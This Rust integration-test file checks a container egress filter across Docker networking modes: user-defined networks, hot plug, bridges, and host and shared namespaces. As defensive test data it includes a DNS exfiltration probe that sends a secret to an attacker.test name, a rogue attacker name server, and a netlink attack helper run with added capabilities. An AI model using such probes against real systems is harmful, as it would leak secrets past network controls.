//! Docker's network features under the filter: published ports, user-defined networks, hot plug,
//! shared and missing namespaces.

use std::fs;
use std::io::{Read as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::net::UnixStream;
use std::time::{Duration, Instant};

use boundary_shim::gateway::links::described;
use boundary_shim::sys::netlink::Announcements;
use boundary_shim::sys::netns::Namespace;
use test_support::bed::{Bed, Capture, unique};
use test_support::command::{COMMAND_SECONDS, run, wait_for};
use test_support::docker::{IMAGE, runtime};
use test_support::harness::Test;
use test_support::wire::leaks;

pub(crate) const TESTS: &[Test] = &[
    (
        "a_user_defined_network_resolves_names_and_is_filtered",
        user_defined,
    ),
    (
        "a_dead_ipv6_costs_a_quarter_of_a_second_and_both_families_are_permitted_ones",
        dead_ipv6,
    ),
    ("a_network_connected_later_is_filtered", hot_plug),
    (
        "an_interface_is_shut_until_it_is_filtered_whoever_brings_it_up",
        stays_shut,
    ),
    (
        "claims_about_a_network_connected_later_are_not_believed",
        claims,
    ),
    (
        "a_network_without_an_end_on_the_host_cannot_be_connected_later",
        hot_plug_macvlan,
    ),
    (
        "a_container_keeps_the_links_that_it_makes_as_under_runc",
        own_links,
    ),
    (
        "a_container_can_make_its_interface_a_port_of_a_bridge_and_take_it_out_again",
        bridged,
    ),
    (
        "a_network_can_be_disconnected_and_connected_again",
        reconnect,
    ),
    (
        "a_start_is_answered_whatever_happens_to_the_interfaces_meanwhile",
        busy_start,
    ),
    ("network_none_has_no_network", none),
    ("a_containers_own_dns_server_is_not_asked", strange_server),
    ("the_hosts_network_is_filtered", host),
    ("a_container_that_joins_another_is_filtered_with_it", joined),
    (
        "a_container_that_joins_another_brings_no_power_over_it",
        joined_armed,
    ),
    (
        "joining_an_unfiltered_containers_network_is_refused",
        joined_unfiltered,
    ),
];

fn user_defined(bed: &Bed) {
    let network = unique("net");
    bed.docker(&["network", "create", &network]).must_succeed();
    {
        let flags = [
            "--network",
            network.as_str(),
            "--network-alias",
            "neighbour",
        ];
        let server = bed.start(
            &flags,
            &[
                "sh",
                "-c",
                "echo friend >/srv/index.html; httpd -f -p 80 -h /srv",
            ],
        );
        let client = bed.sleeper(&["--network", &network]);
        for name in ["neighbour", &server.name] {
            client.exec(&format!("nslookup {name}")).must_succeed();
        }
        client
            .exec("curl -sS -m 5 https://allowed.test/")
            .must_succeed();
        for probe in [
            "tcp 203.0.113.66:22",
            "udp 203.0.113.66:9999",
            "icmp 203.0.113.66",
        ] {
            client.is_shut_out(probe);
        }
        let secret = unique("secret");
        client
            .exec(&format!("nslookup {secret}.attacker.test"))
            .must_fail();
        assert!(
            !bed.internet_log().contains(&secret),
            "the embedded resolver asked outside"
        );
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}

/// The client is told at once that it is connected, so it can't fall back by itself.
/// curl's exit code.
const CURL_TIMED_OUT: i32 = 28;

fn dead_ipv6(bed: &Bed) {
    let network = unique("dual");
    let create = ["network", "create", "--ipv6", "--subnet", "2001:db8:6::/64"];
    bed.docker(&[&create[..], &[&network]].concat())
        .must_succeed();
    let route = "ip -n internet -6 route replace 2001:db8:6::/64 via 2001:db8:ffff::1";
    bed.exec(&["sh", "-c", route]).must_succeed();
    {
        let container = bed.sleeper(&["--network", &network]);
        // The network tries its own addresses out, too.
        wait_for("IPv6 to lead outside", || {
            let fetch = "curl -sS -m 1 -6 http://allowed.test/";
            container.exec(fetch).stdout.contains("I am allowed.test")
        });
        // On the host, before anybody gives the packets another source.
        let lose = "nft -f - <<'END'
            table ip6 dual { chain lost { type filter hook prerouting priority -300;
              ip6 saddr 2001:db8:6::/64 ip6 daddr 2001:db8:1::10 meta l4proto tcp drop; }; }
END";
        bed.exec(&["sh", "-c", lose]).must_succeed();
        // To whom the name is known to lead, silence is silence, as it is with runc.
        let silent = container.exec("curl -sS -m 2 -6 http://allowed.test/");
        assert_eq!(silent.must_fail().code, CURL_TIMED_OUT, "{silent:?}");
        let began = Instant::now();
        // Clients look for another address, and so do we where nobody knows what is at this one.
        for (port, url) in [(80, "http://allowed.test/"), (443, "https://allowed.test/")] {
            for options in [
                "",
                &format!("--resolve allowed.test:{port}:[2001:db8:1::99]"),
            ] {
                let answer = container.exec(&format!("curl -sS -m 8 {options} {url}"));
                assert!(
                    answer.must_succeed().stdout.contains("allowed.test"),
                    "{answer:?}"
                );
            }
        }
        let took = began.elapsed();
        assert!(took < Duration::from_secs(5), "{took:?}");
        let reached = |record: &serde_json::Value| record["address"] == "198.51.100.10";
        let records = container.records();
        assert!(
            records.iter().filter(|record| reached(record)).count() >= 4,
            "{records:?}"
        );
        bed.exec(&["nft", "delete table ip6 dual"]).must_succeed();
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}

fn hot_plug(bed: &Bed) {
    let network = unique("late");
    bed.docker(&[
        "network",
        "create",
        "--opt",
        "com.docker.network.bridge.name=late0",
        &network,
    ])
    .must_succeed();
    {
        let neighbour = bed.start_with("runc", &["--network", &network], &["sleep", "600"]);
        let container = bed.sleeper(&[]);
        let before = bed.ports_of("late0");
        let bridge = Capture::start(bed, "late0", "in");
        bed.docker(&["network", "connect", &network, &container.name])
            .must_succeed();
        wait_for("the second interface", || {
            container
                .exec("ip -o addr show eth1")
                .stdout
                .contains("inet ")
        });
        // The bridge shows what is for the host; what is for others on it passes from port to port.
        let port = bed
            .ports_of("late0")
            .into_iter()
            .find(|port| !before.contains(port))
            .unwrap();
        // It is kept down until the gateway has the other end.
        let state = bed.inside(&format!("/sys/class/net/{port}/operstate"));
        wait_for("the port", || {
            fs::read_to_string(&state).is_ok_and(|state| state.trim() == "up")
        });
        let port = Capture::start(bed, &port, "in");
        let gateway = bed
            .docker(&[
                "network",
                "inspect",
                "-f",
                "{{(index .IPAM.Config 0).Gateway}}",
                &network,
            ])
            .stdout;
        let neighbour = neighbour.inspect(&format!(
            "{{{{(index .NetworkSettings.Networks \"{network}\").IPAddress}}}}"
        ));
        for target in [gateway.trim(), &neighbour] {
            for probe in [
                format!("tcp {target}:22"),
                format!("udp {target}:9999"),
                format!("icmp {target}"),
            ] {
                container.is_shut_out(&probe);
            }
        }
        container
            .exec("curl -sS -m 5 http://allowed.test/")
            .must_succeed();
        for capture in [port, bridge] {
            assert_eq!(leaks(&capture.stop()), Vec::<&str>::new());
        }
        bed.docker(&["network", "disconnect", &network, &container.name])
            .must_succeed();
        container.exec("ip link show eth1").must_fail();
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}

/// What `start` asks the gateway, said in two pieces while the container's interfaces change.
fn busy_start(bed: &Bed) {
    let container = bed.sleeper(&[]);
    let state = bed.state_of(&container.id())["plan"]["state"]
        .as_str()
        .unwrap()
        .to_owned();
    // The whole path is too long for a socket's name.
    let state = fs::File::open(bed.inside(&state)).unwrap();
    let mut asked =
        UnixStream::connect(format!("/proc/self/fd/{}/control", state.as_raw_fd())).unwrap();
    asked
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let question = framed(r#"{"v":1,"request":"settle"}"#);
    asked.write_all(&question[..9]).unwrap();
    let pid = container.pid().to_string();
    let enter = ["nsenter", "--target", &pid, "--net", "--", "ip", "address"];
    for change in ["add", "del"].repeat(10) {
        run(
            COMMAND_SECONDS,
            &[&enter[..], &[change, "192.0.2.77/32", "dev", "lo"]].concat(),
        )
        .must_succeed();
    }
    asked.write_all(&question[9..]).unwrap();
    let mut answer = Vec::new();
    asked.read_to_end(&mut answer).unwrap();
    assert_eq!(answer, framed(r#"{"v":1,"answer":"done"}"#));
}

fn framed(body: &str) -> Vec<u8> {
    [
        &u32::try_from(body.len()).unwrap().to_be_bytes(),
        body.as_bytes(),
    ]
    .concat()
}

/// While a network is being connected, the container can give the interface any address and route.
/// What it claims must neither draw the filter's own questions to it, nor be answered for on the
/// wire.
fn claims(bed: &Bed) {
    let network = unique("claimed");
    bed.docker(&["network", "create", "--subnet", "172.29.0.0/24", &network])
        .must_succeed();
    {
        let container = bed.sleeper(&["--cap-add", "NET_ADMIN"]);
        let claim = "while ! ip addr add 198.51.100.53/32 dev eth1; do :; done 2>/dev/null; ip addr add 172.29.0.1/32 dev eth1;
                     ip route add 203.0.113.0/24 via 172.29.0.9 dev eth1 onlink; while :; do ip link set eth1 up && break; done; touch /tmp/done";
        bed.docker(&["exec", "--detach", &container.name, "sh", "-c", claim])
            .must_succeed();
        bed.docker(&["network", "connect", &network, &container.name])
            .must_succeed();
        let adopted = |record: &serde_json::Value| record["rule"] == "plugged in";
        wait_for("the second interface", || {
            container.records().iter().any(adopted)
        });
        wait_for("the claims", || {
            container.exec("test -e /tmp/done").code == 0
        });
        container
            .exec("ip addr show eth1 | grep -q 198.51.100.53")
            .must_succeed();
        let page = container.exec(
            "curl -sS -m 5 --resolve fresh.wild.test:80:198.51.100.30 http://fresh.wild.test/",
        );
        assert!(page.stdout.contains("I am *.wild.test"), "{page:?}");
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}

/// Nobody could hold such an interface still until it is adopted, so the container never gets it.
/// Engines connect an interface first and bring the host's end up afterwards.
fn stays_shut(bed: &Bed) {
    let container = bed.sleeper(&[]);
    let pid = container.pid().to_string();
    // Down in the container, it isn't complete: it is held, and nothing passes.
    bed.on_the_wire(&[
        "ip", "link", "add", "shut0", "up", "type", "veth", "peer", "name", "shut1", "netns", &pid,
    ])
    .must_succeed();
    let is_shut = || {
        let said = bed.on_the_wire(&["ip", "-o", "link", "show", "shut0"]);
        !said.must_succeed().stdout.contains(",UP")
    };
    wait_for("the host's end to be down", is_shut);
    bed.on_the_wire(&["ip", "link", "set", "shut0", "up"])
        .must_succeed();
    let host = Namespace::of_process(bed.first()).unwrap();
    let heard = host.inside(Announcements::open).unwrap();
    bed.on_the_wire(&[
        "nsenter", "--target", &pid, "--net", "--", "ip", "link", "set", "shut1", "up",
    ])
    .must_succeed();
    // Later it is brought up by the gateway.
    let goes_down = || {
        heard
            .take()
            .is_ok_and(|news| described(&news).any(|link| link.name == "shut0" && !link.up))
    };
    wait_for("the host's end to be taken down again", goes_down);
    bed.on_the_wire(&["ip", "link", "del", "shut0"])
        .must_succeed();
}

fn hot_plug_macvlan(bed: &Bed) {
    let network = unique("macvlan");
    let create = [
        "network",
        "create",
        "--driver",
        "macvlan",
        "--opt",
        "parent=internet",
        "--subnet",
        "192.0.2.128/28",
    ];
    bed.docker(&[&create[..], &[&network]].concat())
        .must_succeed();
    {
        let container = bed.sleeper(&["--cap-add", "NET_ADMIN"]);
        bed.docker(&["network", "connect", &network, &container.name]);
        let refused = |record: &serde_json::Value| {
            record["verdict"] == "deny"
                && record["reason"]
                    .as_str()
                    .unwrap_or_default()
                    .contains("running container")
        };
        wait_for("the record", || container.records().iter().any(refused));
        assert_eq!(
            container
                .exec("ls /sys/class/net")
                .stdout
                .split_whitespace()
                .collect::<Vec<_>>(),
            ["eth0", "lo"]
        );
        crate::filter::nothing_leaks_while(bed, &container, || {
            crate::filter::denied_probes(&container)
        });
    }
    bed.docker(&["network", "rm", &network]).must_succeed();
}

/// What a bridge says of its ports looks like word of hardware: no kind, and another family. Each
/// kind that this kernel can make is tried.
fn own_links(bed: &Bed) {
    const MAKE: &str = "ip() { /bin/ip \"$@\"; }; ip link add br0 type bridge; ip link set br0 up
        ip link set br0 type bridge vlan_filtering 1; ip link set br0 type bridge mcast_snooping 1
        unshare --net sleep 600 </dev/null >/dev/null 2>&1 & nested=$!; echo $nested >/tmp/nested
        while [ $(readlink /proc/$nested/ns/net) = $(readlink /proc/self/ns/net) ]; do :; done
        for n in 1 2 3; do
          ip link add v$n type veth peer name w$n netns $nested; ip link set v$n master br0; ip link set v$n up
          bridge link set dev v$n hairpin on; bridge vlan add dev v$n vid $n
          nsenter -t $nested -n /bin/ip link set w$n up; nsenter -t $nested -n /bin/ip link set w$n name eth$n
        done
        ip link set v2 nomaster; ip link set v2 master br0; ip link set v3 nomaster; ip link set v3 name x3
        ip link property add dev v2 altname another
        bridge mdb add dev br0 port v1 grp 239.1.1.1 permanent vid 1
        for kind in dummy ifb bond team vrf vcan wireguard nlmon 'vrf table 10' 'vxlan id 7 remote 192.0.2.9 dstport 4789' \\
          'gre remote 192.0.2.9' 'ipip remote 192.0.2.9' 'sit remote 192.0.2.9' 'geneve id 7 remote 192.0.2.9'; do
          ip link add kind${kind%% *} type $kind
        done 2>/dev/null
        for kind in macvlan macvtap ipvlan 'vlan id 3' macsec; do ip link add link v1 name over${kind%% *} type $kind; done 2>/dev/null
        ip tuntap add dev tap0 mode tap; ip link set tap0 master br0; ip link set tap0 netns $nested
        ip link add index 9001 pair1 type veth peer name pair2 index 9002 netns $nested
        ip link set pair1 master br0; ip link del pair1; ip link add index 9001 pair1 type veth peer name pair2 index 9002
        ip link set pair1 master br0";
    const SEE: &str = "names() { awk '{print $2; if (/altname/) print $NF}' | sed 's/@.*//' | sort; }; nested=$(cat /tmp/nested)
        /bin/ip -o link show | names; /bin/ip -o link show master br0 | names; nsenter -t $nested -n /bin/ip -o link show | names";
    let network = unique("late");
    bed.docker(&["network", "create", &network]).must_succeed();
    let seen: Vec<String> = ["runc", &runtime()]
        .into_iter()
        .map(|runtime| {
            let container = bed.start_with(runtime, &ARMED, &["sleep", "600"]);
            container.exec(MAKE);
            // What is plugged in later is dealt with later.
            bed.docker(&["network", "connect", &network, &container.name])
                .must_succeed();
            if runtime != "runc" {
                let records = || container.records();
                wait_for("the second interface", || {
                    records()
                        .iter()
                        .any(|record| record["rule"] == "plugged in")
                });
                let refused = |record: &serde_json::Value| record["verdict"] == "deny";
                assert_eq!(records().into_iter().find(refused), None);
            }
            container.exec(SEE).must_succeed().stdout.clone()
        })
        .collect();
    assert!(
        seen[0].contains("pair1") && seen[0].contains("x3"),
        "{seen:?}"
    );
    assert_eq!(seen[0], seen[1]);
    bed.docker(&["network", "rm", &network]).must_succeed();
}

/// As jails, and dockers in a container, have it.
fn bridged(bed: &Bed) {
    const IN: &str = "ip() { /bin/ip \"$@\"; }; address=$(ip -o -4 addr show eth0 | awk '{print $4}'); gateway=$(ip route | awk '/^default/ {print $3}')
        ip link add br0 type bridge && ip link set eth0 master br0 && ip addr del $address dev eth0 &&
          ip addr add $address brd + dev br0 && ip link set br0 up && ip route add default via $gateway &&
          echo $address $gateway >/tmp/was";
    const OUT: &str = "ip() { /bin/ip \"$@\"; }; read -r address gateway </tmp/was; ip link set eth0 nomaster && ip link del br0 &&
          ip addr add $address brd + dev eth0 && ip route add default via $gateway";
    for runtime in ["runc", &runtime()] {
        let container = bed.start_with(runtime, &ARMED, &["sleep", "600"]);
        for change in [IN, OUT, IN] {
            let changed = container.exec(change);
            assert_eq!(changed.code, 0, "{runtime}: {changed:?}");
            let page = container.exec("curl -sS -m 5 http://allowed.test/");
            assert_eq!(page.code, 0, "{runtime}: {page:?}");
            if runtime != "runc" {
                for probe in ["tcp 203.0.113.66:22", "udp 203.0.113.66:9999"] {
                    container.is_shut_out(probe);
                }
            }
        }
    }
}

/// What a container needs to make links: without a user namespace of our making, plain runc needs
/// it, too.
const ARMED: [&str; 4] = ["--cap-add", "NET_ADMIN", "--cap-add", "SYS_ADMIN"];

fn reconnect(bed: &Bed) {
    let container = bed.sleeper(&[]);
    bed.docker(&["network", "disconnect", "bridge", &container.name])
        .must_succeed();
    container.exec("ip link show eth0").must_fail();
    bed.docker(&["network", "connect", "bridge", &container.name])
        .must_succeed();
    wait_for("the network to work again", || {
        container.exec("curl -sS -m 2 http://allowed.test/").code == 0
    });
    crate::filter::nothing_leaks_while(bed, &container, || {
        crate::filter::denied_probes(&container)
    });
}

/// The attacker's machine runs a name server, too: an allowed name would be resolved by it, and its
/// labels be read.
fn strange_server(bed: &Bed) {
    let container = bed.sleeper(&["--dns", "203.0.113.66"]);
    let name = format!("{}.wild.test", unique("labels"));
    container.exec(&format!("nslookup {name}")).must_succeed();
    let log = bed.internet_log();
    let asked: Vec<&str> = log.lines().filter(|line| line.contains(&name)).collect();
    assert!(
        !asked.is_empty() && asked.iter().all(|line| line.contains("198.51.100.53:53")),
        "{asked:?}"
    );
    let says = |record: &serde_json::Value| {
        record["notice"]
            .as_str()
            .unwrap_or_default()
            .contains("203.0.113.66")
    };
    assert!(container.records().iter().any(says), "no notice");
}

fn none(bed: &Bed) {
    let said = bed
        .run(&["--network", "none"], "ls /sys/class/net")
        .must_succeed()
        .stdout
        .clone();
    assert_eq!(said.trim(), "lo");
}

fn host(bed: &Bed) {
    let container = bed.sleeper(&["--network", "host"]);
    container
        .exec("curl -sS -m 5 https://allowed.test/")
        .must_succeed();
    for probe in [
        "tcp 203.0.113.66:22",
        "udp 203.0.113.66:9999",
        "icmp 203.0.113.66",
        "tcp 192.0.2.2:22",
    ] {
        container.is_shut_out(probe);
    }
    container.exec("ip link show docker0").must_fail();
}

fn joined(bed: &Bed) {
    let first = bed.sleeper(&[]);
    let network = format!("container:{}", first.name);
    let second = bed.sleeper(&["--network", &network]);
    second
        .exec("curl -sS -m 5 https://allowed.test/")
        .must_succeed();
    crate::filter::nothing_leaks_while(bed, &first, || crate::filter::denied_probes(&second));
}

/// Capabilities over a network namespace are bounded by the user namespace that owns it: the joiner
/// has to share it.
fn joined_armed(bed: &Bed) {
    let armed = ["--cap-add", "NET_ADMIN"];
    let first = bed.sleeper(&armed);
    let network = format!("container:{}", first.name);
    let second = bed.sleeper(&["--network", &network, "--cap-add", "NET_ADMIN"]);
    let said = second
        .exec("attacker rtnetlink eth0")
        .must_succeed()
        .stdout
        .clone();
    crate::attacks::nothing_was_permitted(&said);
    // One without a user namespace of its own.
    let plain = bed.start_with("boundary-none", &[], &["sleep", "600"]);
    let network = format!("container:{}", plain.name);
    let answer = bed.run(&["--network", &network, "--cap-add", "NET_ADMIN"], "true");
    assert!(
        answer.must_fail().stderr.contains("CAP_NET_ADMIN"),
        "{}",
        answer.stderr
    );
}

fn joined_unfiltered(bed: &Bed) {
    let plain = bed.start_with("runc", &[], &["sleep", "600"]);
    let network = format!("container:{}", plain.name);
    let answer = bed.docker(&[
        "run",
        "--rm",
        "--runtime",
        &runtime(),
        "--network",
        &network,
        IMAGE,
        "true",
    ]);
    assert!(
        answer.must_fail().stderr.contains("gateway"),
        "{}",
        answer.stderr
    );
}
